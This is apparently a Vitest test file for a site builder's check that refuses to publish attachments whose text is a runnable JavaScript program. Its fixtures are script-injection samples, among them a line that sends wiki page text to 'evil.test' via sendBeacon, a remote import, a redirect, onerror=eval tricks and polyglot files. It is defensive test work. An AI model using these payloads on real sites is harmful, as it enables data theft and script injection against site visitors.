/**
 * A file whose text is a JavaScript program is never published, whatever its type: a page of the
 * site may load it with `<script src>` (the policy allows the site's own files), and a host that
 * ignores `_headers` sends no nosniff, so the browser runs text/plain, JSON, CSS, HTML and the rest.
 */
import path from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import { attachmentVerdict } from "../../src/core/site/attachment-safety.ts";
import { isRunnableScript, runsAsScript, SCRIPT_READ_BYTES } from "../../src/core/site/script-text.ts";
import { loadProject } from "../../src/core/project/project.ts";
import { prepareSites } from "../../src/build/site-data.ts";
import { flatMessages, lintJson, makeProject, removeTemps } from "../helpers.ts";

afterAll(removeTemps);

const bytes = (text: string) => new TextEncoder().encode(text);

/** Files of types no browser opens as a page, each a script when loaded by one. */
const SCRIPTS: Record<string, [string, string]> = {
  "plain text": ["notes.txt", 'fetch("/wiki/").then((r) => r.text()).then((t) => navigator.sendBeacon("https://evil.test/", t))'],
  "Markdown": ["readme.md", "top.__xss = 1 // # Read me"],
  "CSS that is also a program": ["theme.css", "body\n{ color: red; top.__xss = 1 }"],
  "a TSV file (text/tab-separated-values)": ["data.tsv", "top.__xss = 1"],
  "a PDF name": ["guide.pdf", "top.__xss = 1"],
  "an archive name": ["bundle.zip", "top.__xss = 1"],
  "a shell script": ["setup.sh", "top.__xss = 1"],
  "an image name": ["photo.png", "top.__xss = 1"],
  // An HTML page with no script as HTML: its first line is a comment in a classic script too (HTML-like comments).
  "an HTML page whose comment hides code from HTML only": ["notes.html", "<!-- Call notes -->\ntop.__xss = 1\n"],
  "a file of no known type": ["settings.ini", "top.__xss = 1"],
  "a hashbang script": ["tool.py", "#!/usr/bin/env node\ntop.__xss = 1"],
};

describe("runsAsScript", () => {
  it("counts a program too deep for this parser's stack as one: a browser with a larger stack runs it", () => {
    const deep = "(".repeat(5000) + "alert(1)" + ")".repeat(5000);
    expect(isRunnableScript(deep)).toBe(true);
    expect(runsAsScript(bytes(deep))).toBe(true);
    expect(isRunnableScript("[".repeat(5000) + "]".repeat(5000))).toBe(false); // deep JSON only builds a value
  });
  for (const [name, [file, text]] of Object.entries(SCRIPTS)) {
    it(`refuses ${name} (${file})`, () => {
      const verdict = attachmentVerdict(file, bytes(text));
      expect(verdict.safe).toBe(false);
      expect(verdict.safe ? "" : verdict.reason).toMatch(/JavaScript program/);
    });
  }

  it("reads the bytes as a browser may: UTF-16 by its byte-order mark, windows-1252 for a host that declares it", () => {
    const utf16 = new Uint8Array([0xff, 0xfe, ...[..."top.__xss = 1"].flatMap((c) => [c.charCodeAt(0), 0])]);
    expect(runsAsScript(utf16)).toBe(true);
    // Invalid UTF-8 (a syntax error there), but À is a letter in windows-1252.
    expect(runsAsScript(new Uint8Array([0xc0, ...bytes("=1; top.__xss = 1")]))).toBe(true);
  });

  it("accepts what is no program, or a program that can do nothing", () => {
    for (const text of [
      "Call notes: the customer asked for a refund.",
      "MIT License\n",
      "name,amount\nAda,10\n",
      "key: <value>\n",
      "body { color: red }",
      '{"refunds": [1, 2, 3]}',
      '[1, "two", null]',
      "apples\npears\n",
      "# Title\n\nText.",
      "<!doctype html><p>Hi</p>",
      "%PDF-1.7\n",
      // Sample files a card attaches, each a program that compiles and can do nothing.
      "name: lumen\nversion: 2\nurl: https://help.lumen.example/\n",
      "- one\n- two\n",
      '"name","amount"\n"Ada","10.50"\n',
      "body\n{\n  color: red;\n}\n",
      "Status: pending\n",
      "a == b && c <= d || e >= f",
      '["a=b", "f(x)", "++"]',
      "PK\u0003\u0004binary",
      "",
    ]) {
      expect(isRunnableScript(text), text).toBe(false);
    }
    expect(runsAsScript(new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]))).toBe(false);
    expect(isRunnableScript("new\nWorker")).toBe(true);
    expect(isRunnableScript("a,new\nImage")).toBe(true);
    // Each way a program acts without a call: an assignment (onerror=eval, then a thrown string), a tagged template, ++, delete.
    for (const text of ["onerror=eval\nthrow'=top.__xss=1'", "location='//evil.test/'", "a.b += 1", "x >>>= 1", "x ||= top", "Function`x```", "a\n++b", "delete top.pagefind", "import('//evil.test/x.js')"]) {
      expect(isRunnableScript(text), text).toBe(true);
    }
  });
});

describe("a file longer than SCRIPT_READ_BYTES", () => {
  const long = (head: string, line: string) => bytes(head + line.repeat(Math.ceil((SCRIPT_READ_BYTES + 1000) / line.length)));

  it("is judged by its start: a syntax error before the start's last line is the whole file's", () => {
    expect(runsAsScript(long("", "2026-12-01 12:00:00 ERROR payment failed\n"))).toBe(false);
    expect(runsAsScript(long("Refunds take five days.\n", "More prose, line after line.\n"))).toBe(false);
  });

  it("is a program when its start is one, or when the start's only error may be where it was cut", () => {
    expect(runsAsScript(long("top.__xss = 1\n", "// padding\n"))).toBe(true);
    expect(runsAsScript(long("top.__xss = 1 /*", "x"))).toBe(true);
  });
});

const card = (body: string) => `---\ntitle: A card\nowner: "@acme/team"\naudience: external\nverify_by: 2099-01-01\n---\n\n${body}\n`;

describe("a linked file that is a program", () => {
  it("is a lint error at the link, and neither site publishes it", async () => {
    const dir = makeProject({
      "content/help/notes.txt": "top.__xss = 1",
      "content/help/list.txt": "Refunds take five days.",
      "content/help/a.md": card("[notes](notes.txt) and [list](list.txt)"),
    });
    const result = await lintJson(dir, ["--today", "2026-11-22"]);
    const hits = flatMessages(result.results, dir).filter((m) => m.ruleId === "attachment-unsafe");
    expect(hits.map((m) => [m.file, m.line, m.column])).toEqual([["content/help/a.md", 8, 1]]);
    expect(hits[0]!.message).toMatch(/notes\.txt is not published: its text is a JavaScript program.*nosniff.*attach it in a \.zip file/);
    const project = loadProject({ cwd: dir, root: dir, today: "2030-01-01" });
    const sites = prepareSites(project, ["public", "internal"], { history: { available: false, reason: "test" } });
    for (const site of sites.values()) expect(site.assets.map((a) => path.basename(a.file))).toEqual(["list.txt"]);
  });
});
